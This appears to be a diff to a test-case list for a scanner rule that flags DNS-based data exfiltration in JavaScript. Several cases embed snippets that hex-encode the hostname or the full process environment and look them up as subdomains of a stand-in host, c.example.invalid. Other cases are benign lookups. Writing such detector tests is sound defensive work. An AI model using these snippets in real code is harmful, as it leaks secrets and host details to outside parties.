@@ -387,6 +387,11 @@ CASES = [
           _HEAD + "const data = Buffer.from(os.hostname()).toString('hex');\nrequire('dns').resolve(`${data}.c.example.invalid`, () => {});"),
     _case("dns-lookup-encoded", "GH-EXFIL-WEBHOOK", "high",
           _HEAD + "const dns = require('dns');\nconst sub = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);\ndns.lookup(sub + '.c.example.invalid', () => {});"),
+    _case("dns-destructured", "GH-EXFIL-WEBHOOK", "high",
+          "const { resolveTxt } = require('node:dns');\nconst os = require('os');\n"
+          "resolveTxt(os.hostname() + '.c.example.invalid', () => {});"),
+    _case("dns-promise-resolve", "GH-EXFIL-WEBHOOK", None,
+          "const dns = require('dns');\nnew Promise(resolve => resolve(`${name}.c.example.invalid`)).then(h => dns.lookup('localhost', () => {}));"),
     _case("dns-lookup-host", "GH-EXFIL-WEBHOOK", None,
           _HEAD + "require('dns').lookup('registry.npmjs.org', (e) => process.exit(e ? 1 : 0));"),
     _case("dns-lookup-library", "GH-EXFIL-WEBHOOK", None,
